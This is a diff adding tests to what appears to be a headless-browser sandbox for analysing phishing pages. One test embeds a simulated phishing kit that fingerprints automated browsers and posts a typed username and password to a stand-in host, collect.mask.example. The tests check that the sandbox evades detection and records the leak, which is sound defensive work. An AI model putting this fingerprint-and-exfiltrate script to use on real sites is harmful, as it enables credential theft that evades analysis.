@@ -408,6 +408,64 @@ describe('pages that hide from a render, or ask in steps', () => {
     );
   });
 
+  it("is not told by the render's wrappers, its clock or a name it leaves", async () => {
+    // A kit that looks as anti-bot scripts do: a method or getter whose text is not the browser's
+    // own, whose name, length or prototype differs, a method on an object that no browser defines
+    // there, or a global no browser has (Playwright's clock left window.__pwClock).
+    const script = `const nativeText = (f) => typeof f === 'function' && /^function [\\w$ ]*\\(\\) \\{\\s*\\[native code\\]\\s*\\}$/.test(Function.prototype.toString.call(f));
+      const tells = [];
+      const need = (what, ok) => { if (!ok) tells.push(what); };
+      const getter = (o, p) => (Object.getOwnPropertyDescriptor(o, p) || {}).get;
+      const methods = { setTimeout, setInterval, clearTimeout, clearInterval, Date, now: Date.now, perfNow: performance.now,
+        addEventListener: EventTarget.prototype.addEventListener, toString: Function.prototype.toString,
+        query: Permissions.prototype.query, createEvent: Document.prototype.createEvent, matchMedia,
+        geolocation: Geolocation.prototype.getCurrentPosition, requestPermission: Notification.requestPermission,
+        webdriver: getter(Navigator.prototype, 'webdriver'), userAgent: getter(Navigator.prototype, 'userAgent'),
+        innerWidth: getter(window, 'innerWidth'), width: getter(Screen.prototype, 'width'),
+        onkeydown: (Object.getOwnPropertyDescriptor(HTMLElement.prototype, 'onkeydown') || {}).set,
+        WebSocket, send: WebSocket.prototype.send, wsUrl: getter(WebSocket.prototype, 'url'), outerWidth: getter(window, 'outerWidth') };
+      for (const [k, f] of Object.entries(methods)) need(k, nativeText(f) && (k === 'Date' || k === 'WebSocket' || !('prototype' in f)));
+      need('names', setTimeout.name === 'setTimeout' && EventTarget.prototype.addEventListener.name === 'addEventListener');
+      need('lengths', EventTarget.prototype.addEventListener.length === 2 && setTimeout.length === 1 && Date.length === 7);
+      need('Date.prototype', Date.prototype.constructor === Date && new Date() instanceof Date && typeof Date() === 'string');
+      need('own methods', !Object.prototype.hasOwnProperty.call(navigator.geolocation, 'getCurrentPosition'));
+      need('globals:' + Object.getOwnPropertyNames(window).filter((k) => /^__|pwClock|playwright|sitehall/i.test(k)).join('+'), !Object.getOwnPropertyNames(window).some((k) => /^__|pwClock|playwright|sitehall/i.test(k)));
+      need('toString of toString', nativeText(Function.prototype.toString.toString));
+      need('window', navigator.maxTouchPoints > 0 || (outerWidth > innerWidth && outerHeight > innerHeight && screen.width > outerWidth));
+      need('WebSocket', WebSocket.length === 1 && new WebSocket('wss://ws.mask.example/') instanceof WebSocket);
+      document.getElementById('f').onsubmit = (e) => { e.preventDefault();
+        if (tells.length) return fetch('https://told.mask.example/?' + tells.join(','));
+        fetch('https://collect.mask.example/c', { method: 'POST', body: JSON.stringify({ u: e.target.u.value, p: e.target.p.value }) }); };`;
+    const { observations: obs } = await render({ 'index.html': page(form, script) });
+    expect(obs.externalRequests.map((r) => r.url).filter((u) => u.includes('told.'))).toEqual([]);
+    expect(obs.leaks).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({ kind: 'password', host: 'collect.mask.example', external: true }),
+      ]),
+    );
+  });
+
+  it("keeps a page's timers and clock working as a browser's: order, intervals, clearing, Date", async () => {
+    // The render's own clock (stealth.ts) under a page that leans on it; the jumps move Date and
+    // performance.now alike and fire what they pass, in order.
+    const script = `const log = [];
+      const t0 = Date.now(), p0 = performance.now();
+      setTimeout(() => log.push('b'), 20000);
+      setTimeout(() => log.push('a'), 10000);
+      const cleared = setTimeout(() => log.push('never'), 5000); clearTimeout(cleared);
+      let ticks = 0; const iv = setInterval(() => { if (++ticks === 3) clearInterval(iv); }, 1);
+      setTimeout((x, y) => log.push(x + y), 0, 'c', 'd');
+      setTimeout(() => {
+        const jumped = Date.now() - t0, pj = performance.now() - p0;
+        fetch('https://clock.example/?' + [log.join(''), ticks, jumped >= 29000 ? 'date' : 'nodate:' + jumped,
+          Math.abs(jumped - pj) < 2000 ? 'perf' : 'noperf:' + pj, new Date().getTime() >= t0 + 29000 ? 'new' : 'nonew'].join('.'));
+      }, 29000);`;
+    const { observations: obs } = await render({ 'index.html': page('<p>时钟</p>', script) });
+    expect(obs.externalRequests.map((r) => r.url).find((u) => u.includes('clock.example'))).toMatch(
+      /\?cdab\.3\.date\.perf\.new$/,
+    );
+  });
+
   it('fills the fields a button brings: a login that asks the password after 下一步', async () => {
     const first =
       '<form id="f"><input name="u" placeholder="账号"><button type="button" id="next">下一步</button></form>';
